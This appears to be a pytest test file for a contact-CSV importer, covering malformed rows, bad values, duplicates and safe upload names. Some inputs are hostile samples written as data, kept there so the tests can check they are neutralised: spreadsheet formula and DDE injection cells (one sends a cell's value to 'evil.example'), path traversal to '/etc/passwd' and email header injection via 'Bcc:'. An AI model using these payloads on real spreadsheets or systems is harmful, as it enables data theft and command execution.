"""Contact files that are wrong: one sentence with row, field and code, and the other rows still read."""

import csv
import gzip
import io
import zipfile
from pathlib import Path

import pytest

from domain.errors import Correctable
from tools.read.contact_file import ContactFile, ContactRow, Limits, RowError, read_contact_file, safe_name


def opened(text: str | bytes, **options: object) -> ContactFile:
    data = text.encode() if isinstance(text, str) else text
    return read_contact_file(data, name="people.csv", **options)  # type: ignore[arg-type]


def read(text: str | bytes, **options: object) -> tuple[list[ContactRow], dict[str, RowError]]:
    file = opened(text, **options)
    rows = list(file.rows())
    return rows, {error.code: error for error in file.errors}


def refused(text: str | bytes, **options: object) -> Correctable:
    with pytest.raises(Correctable) as caught:
        list(opened(text, **options).rows())
    error = caught.value
    assert "\n" not in error.message
    assert error.exit_code == 2
    return error


def zipped() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return buffer.getvalue()


@pytest.mark.parametrize("text", [b"", b"\n\n\n", b"\xef\xbb\xbf", b"\xff\xfe", b" \r\n,,,\r\n", b"\x00\x00"])
def test_an_empty_file(text: bytes) -> None:
    assert refused(text).code in ("empty_file", "not_a_csv_file")


def test_a_header_without_rows() -> None:
    error = refused("Company,Email\n")
    assert error.code == "no_rows"
    assert error.where == "people.csv"


def test_an_unusual_delimiter_is_named() -> None:
    error = refused("Company^Email^City\nAcme^a@acme.example^Bonn\n")
    assert error.code == "wrong_delimiter"
    assert '"^"' in error.message


def test_no_column_that_names_a_company() -> None:
    error = refused("Colour,Taste\nred,sweet\n")
    assert error.code == "no_usable_column"
    assert "Colour, Taste" in error.message


def test_a_missing_file_a_folder_and_a_large_one(tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    with big.open("wb") as file:
        file.truncate(5_000_000_000)  # takes no room on the disk
    for path, code in (
        (tmp_path / "no.csv", "file_not_found"),
        (tmp_path, "not_a_file"),
        (big, "file_too_large"),
    ):
        with pytest.raises(Correctable) as caught:
            read_contact_file(path)
        assert caught.value.code == code
    assert "5,000 MB" in caught.value.message


def test_more_rows_than_the_limit() -> None:
    rows, errors = read("Company\n" + "Acme\n" * 30, limits=Limits(max_rows=10))
    assert len(rows) == 10
    assert errors["too_many_rows"].row == 12


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (zipped(), "Excel"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "old Excel"),
        (b"%PDF-1.7\n%\xe2\xe3", "PDF"),
        (gzip.compress(b"Company,Email\n" * 100, mtime=0), "gzip"),
        (b"\x89PNG\r\n\x1a\n" + bytes(100), "picture"),
        (b"<!DOCTYPE html><html><table><tr><td>Company</td></tr></table></html>", "web page"),
        (b'[{"company": "Acme"}]', "JSON"),
        (bytes(range(256)) * 40, "binary"),
        (b"\x00" * 5_000, "binary"),
    ],
)
def test_a_type_that_lies_about_its_content(data: bytes, kind: str) -> None:
    error = refused(data)
    assert error.code == "not_a_csv_file"
    assert kind in error.message


def test_nul_bytes_are_removed_and_reported() -> None:
    rows, errors = read(b"Company,Email\nAc\x00me,anna@acme.example\n")
    assert rows[0].company == "Acme"
    assert (errors["nul_bytes"].row, errors["nul_bytes"].field) == (2, "Company")


def test_a_few_damaged_bytes_do_not_spoil_the_file() -> None:
    text = "Firma,Ort\nBäckerei,Köln\nGärtnerei,Düren\n".encode() + b"Caf\xe9,Bonn\n"
    rows, errors = read(text)
    assert rows[0].company == "Bäckerei"
    assert "damaged_text" in errors


def test_duplicate_headers_are_told_apart() -> None:
    rows, errors = read("Company,Email,Email\nAcme,anna@acme.example,info@acme.example\n")
    assert rows[0].email == "anna@acme.example"
    assert rows[0].extra == (("Email (2)", "info@acme.example"),)
    assert errors["duplicate_header"].row == 1


def test_a_missing_email_column_still_imports_companies() -> None:
    rows, errors = read("Company,Website\nAcme,acme.example\n")
    assert rows[0].domain == "acme.example"
    assert errors["no_email_column"].field == "email"


def test_one_ragged_row_among_ten_thousand() -> None:
    lines = [f"Acme {n},a@acme{n}.example,Bonn" for n in range(2, 10_002)]
    lines[498] = "Acme 500,too,many,cells,here"
    rows, errors = read("Company,Email,City\n" + "\n".join(lines) + "\n")
    assert len(rows) == 9_999
    assert errors["ragged_row"].row == 500
    assert "5 cells where the header has 3" in errors["ragged_row"].message


def test_a_short_row_is_used_only_when_its_address_is_in_place() -> None:
    rows, errors = read(
        "Company,Email,City\nAcme,anna@acme.example\nanna@blue.example,Bonn\nRed,r@red.example,Ulm,\n"
    )
    assert [row.company for row in rows] == ["Acme", "Red"]
    assert errors["ragged_row"].row == 3


@pytest.mark.parametrize("last", [False, True])
def test_an_unclosed_quote_costs_its_own_row_only(last: bool) -> None:
    bad = 'Acme,"anna@acme.example\n'
    others = [f"Blue {n},b@blue{n}.example\n" for n in range(300)] + ['"Green, Inc",g@green.example\n']
    lines = [*others, bad] if last else [*others[:5], bad, *others[5:]]
    rows, errors = read("Company,Email\n" + "".join(lines))
    assert len(rows) == 301
    assert rows[-1].company == "Green, Inc"
    wanted = 303 if last else 7
    assert errors["unclosed_quote"].row == wanted
    assert f"line {wanted}" in errors["unclosed_quote"].message


def test_one_endless_line_does_not_fill_the_memory() -> None:
    rows, errors = read("Company,Email\n" + "x" * 3_000_000 + "\nAcme,anna@acme.example\n")
    assert errors["line_too_long"].row == 2
    assert [row.company for row in rows] == ["Acme"]


def test_a_huge_cell_is_cut() -> None:
    rows, errors = read(f"Company,Notes\nAcme,{'long ' * 5_000}\n")
    assert len(rows[0].notes) == 5_000
    assert errors["cell_too_long"].row == 2


@pytest.mark.parametrize(
    ("cell", "kept"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Acme")', ""),
        ('=HYPERLINK("http://evil.example","Acme")', "Acme"),
        ('=HYPERLINK("http://evil.example";"=cmd()")', "cmd()"),
        ("=1+1", ""),
        ("@SUM(1+1)*cmd|' /C calc'!A0", ""),
        ("+cmd|' /C calc'!A0", ""),
        ("-HYPERLINK(A1)", ""),
    ],
)
def test_formulas_are_neutralised_and_reported(cell: str, kept: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["Company", "Website"], [cell, "acme.example"]])
    rows, errors = read(buffer.getvalue())
    assert rows[0].company == kept
    assert errors["formula_cell"].row == 2


def test_an_unquoted_formula_does_not_shift_its_row() -> None:
    rows, errors = read('Company,City\n=HYPERLINK("http://evil.example","Acme"),Bonn\n')
    assert (rows[0].company, rows[0].city) == ("Acme", "Bonn")
    assert "formula_cell" in errors


@pytest.mark.parametrize("cell", ["+49 (0)421 12345", '"=""0421 12345"""', "-", "@acme", "+1 (415) 555-0100"])
def test_phone_numbers_and_handles_are_no_formulas(cell: str) -> None:
    _, errors = read(f"Company,Comment\nAcme,{cell}\n")
    assert "formula_cell" not in errors


@pytest.mark.parametrize(
    ("address", "code"),
    [
        ("a@b", "bad_email"),
        ("a@@b.c", "bad_email"),
        ("x" * 288 + "@acme.example", "bad_email"),
        ("a..b@acme.example", "bad_email"),
        ("@acme.example", "bad_email"),
        ("anna at acme", "bad_email"),
        ("jörg@acme.example", "email_not_ascii"),
        ("a@acme.example; b@acme.example", "several_emails"),
        ("a@acme.example\u2028Bcc: x@y.example", "several_emails"),
    ],
)
def test_bad_addresses_keep_the_row_without_an_address(address: str, code: str) -> None:
    rows, errors = read(f'Company,Email\nAcme,"{address}"\nBlue,b@blue.example\n')
    assert [row.email for row in rows] == ["", "b@blue.example"]
    assert (errors[code].row, errors[code].field) == (2, "email")
    assert len(errors[code].message) < 250


@pytest.mark.parametrize(
    ("written", "code"),
    [
        ("2026-02-31", "impossible_date"),
        ("31.02.2026", "impossible_date"),
        ("31 Feb 2026", "impossible_date"),
        ("1900-01-01", "date_out_of_range"),
        ("31.12.9999", "date_out_of_range"),
        ("next week", "bad_date"),
    ],
)
def test_dates_that_are_none(written: str, code: str) -> None:
    rows, errors = read(f"Company,Last contacted\nAcme,{written}\n")
    assert rows[0].last_contact is None
    assert (errors[code].row, errors[code].field) == (2, "last_contact")


@pytest.mark.parametrize(
    ("header", "written", "code"),
    [
        ("Time zone", "Mars/Phobos", "unknown_zone"),
        ("Time zone", "../../etc/passwd", "unknown_zone"),
        ("Country", "Atlantis", "unknown_country"),
        ("Employees", "many", "bad_staff"),
        ("Employees", "-5", "bad_staff"),
        ("Phone", "call me", "bad_phone"),
        ("Website", "not a site", "bad_website"),
    ],
)
def test_values_nobody_knows(header: str, written: str, code: str) -> None:
    rows, errors = read(f"Company,{header}\nAcme,{written}\n")
    assert rows[0].company == "Acme"
    assert errors[code].row == 2
    assert written in errors[code].message


def test_duplicates_within_the_file_name_both_rows() -> None:
    rows, errors = read(
        "Company,Name,Email\nAcme,Anna,anna@acme.example\nBlue,Bob,b@blue.example\n"
        "ACME,Anna W,ANNA@ACME.example\n"
    )
    assert [row.duplicate_of for row in rows] == [None, None, 2]
    assert errors["duplicate_in_file"].row == 4
    assert "row 2" in errors["duplicate_in_file"].message


def test_the_same_company_without_a_person_is_a_duplicate_and_two_people_are_not() -> None:
    companies, _ = read("Company,Country\nAcme GmbH,DE\nACME,DE\nAcme,US\n")
    people, _ = read("Company,Name\nAcme,Anna\nAcme,Bob\nAcme GmbH,anna\n")
    assert [row.duplicate_of for row in companies] == [None, 2, None]
    assert [row.duplicate_of for row in people] == [None, None, 2]


def test_a_row_that_names_nobody_is_left_out() -> None:
    rows, errors = read("Company,Email\n,anna@gmail.com\nAcme,\n,,\n")
    assert [row.company for row in rows] == ["Acme"]
    assert errors["no_company"].row == 2


def test_control_characters_cannot_reach_a_header() -> None:
    rows, _ = read('Company,Name,Email\n"Acme\r\nBcc: x","Anna\u202e\u200b Weiss\x07",anna@acme.example\n')
    assert (rows[0].company, rows[0].name) == ("Acme Bcc: x", "Anna Weiss")


def test_a_hopeless_file_has_a_bounded_report() -> None:
    file = opened("Company,Email\n" + "Acme,bad\n" * 50, limits=Limits(max_errors=10))
    list(file.rows())
    assert len(file.errors) == 11
    assert file.errors[-1].code == "more_errors"


def test_reading_twice_reports_the_same() -> None:
    file = opened("Company,Email\nAcme,a@b\n")
    assert list(file.rows()) == list(file.rows())
    assert [error.code for error in file.errors] == ["bad_email"]


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\x.csv", "x.csv"),
        ("../x", "x"),
        ("/", "upload"),
        ("..", "upload"),
        ("", "upload"),
        (".bashrc", "bashrc"),
        ("a\x00b\u202e.csv", "ab.csv"),
        ("my contacts (2).csv", "my_contacts_(2).csv"),
        ("con.csv", "_con.csv"),
        ("Übersicht.csv", "Übersicht.csv"),
    ],
)
def test_upload_names_lose_their_folders(name: str, safe: str) -> None:
    assert safe_name(name) == safe


def test_a_long_upload_name_keeps_its_ending() -> None:
    assert safe_name("x" * 500 + ".csv").endswith(".csv")
    assert len(safe_name("語" * 500 + ".csv").encode()) < 255


def test_an_upload_named_like_a_path_is_shown_by_its_last_part() -> None:
    with pytest.raises(Correctable) as caught:
        read_contact_file(b"", name="../../secret/list.csv")
    assert caught.value.where == "list.csv"
